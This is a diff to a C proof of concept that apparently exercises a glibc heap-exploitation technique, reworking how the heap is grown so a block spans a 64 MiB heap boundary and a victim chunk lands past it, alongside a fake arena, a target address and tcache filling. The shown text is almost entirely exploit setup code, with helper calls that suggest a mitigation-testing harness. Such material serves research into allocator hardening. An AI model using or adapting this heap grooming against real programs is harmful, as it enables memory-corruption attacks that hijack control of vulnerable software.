@@ -20,6 +20,7 @@
 #define HEAP_MAX 0x4000000UL	/* HEAP_MAX_SIZE on x86_64 */
 #define FASTBINS_OFF 0x10	/* offsetof (struct malloc_state, fastbinsY) */
 #define SYSTEM_MEM_OFF 0x888	/* offsetof (struct malloc_state, system_mem) */
+#define BLOCK 0x1ff00		/* chunk size of the blocks that grow the heap */
 
 int
 main (void)
@@ -34,34 +35,36 @@ main (void)
   for (int i = 0; i < 7; i++)
     tc[i] = malloc (0x58);
 
-  /* Grow the heap with blocks below the mmap threshold until the next
-     64 MiB boundary is 0x100 bytes below the top chunk, inside the last
-     filler block.  */
+  /* Grow the heap with blocks below the mmap threshold until one of
+     them contains the next 64 MiB boundary; the victim chunk comes
+     next, past the boundary.  In glibc's layout the blocks are 0x1ff00
+     bytes apart, from the top chunk on: a pad keeps the boundary off
+     their headers.  */
   char *probe = malloc (0x18);
   uintptr_t top = (uintptr_t) CHUNK (probe) + 0x20;
   uintptr_t boundary = (top + 0x1000 + HEAP_MAX - 1) & ~(HEAP_MAX - 1);
-  uintptr_t want = boundary + 0x100;	/* where the victim chunk goes */
-  while (want - top > 0x20000 + 0x400)
+  size_t off = (boundary - top) % BLOCK;
+  if (off < 0x20 || off > BLOCK - 0x20)
+    malloc (0x100 - 8);
+  char *last = NULL;
+  for (size_t i = 0; i < (boundary - top) / BLOCK + 4 && i < 2 * HEAP_MAX / BLOCK; i++)
     {
-      char *f = malloc (0x1ff00 - 8);
+      char *f = malloc (BLOCK - 8);
       if (!f)
-	no_effect ("could not grow the heap");
-      top = (uintptr_t) f - 0x10 + 0x1ff00;
+	break;
+      if ((uintptr_t) f <= boundary && (uintptr_t) f + BLOCK - 8 >= boundary + 8)
+	{
+	  last = f;
+	  break;
+	}
     }
-  if (want - top > 0x1f000)
-    {
-      char *f = malloc (0x10000 - 8);
-      top = (uintptr_t) f - 0x10 + 0x10000;
-    }
-  char *last = malloc (want - top - 8);
+  if (!last)
+    no_effect ("no block contains the 64 MiB boundary %#lx", (unsigned long) boundary);
   size_t *victim = malloc (0x58);
-  say ("fake arena %p target %p boundary %#lx last filler %p victim %p",
+  say ("fake arena %p target %p boundary %#lx inside %p; victim %p",
        fake_arena, target, (unsigned long) boundary, last, victim);
-  if ((uintptr_t) victim < boundary || (uintptr_t) victim >= boundary + HEAP_MAX
-      || (uintptr_t) last > boundary
-      || (uintptr_t) last + (want - top - 8) < boundary + 8)
-    no_effect ("the boundary %#lx is not inside a block the program owns",
-	       (unsigned long) boundary);
+  if ((uintptr_t) victim < boundary || (uintptr_t) victim >= boundary + HEAP_MAX)
+    no_effect ("the victim %p is not past the boundary %#lx", victim, (unsigned long) boundary);
 
   for (int i = 0; i < 7; i++)
     free (tc[i]);			/* tcache 0x60 full */
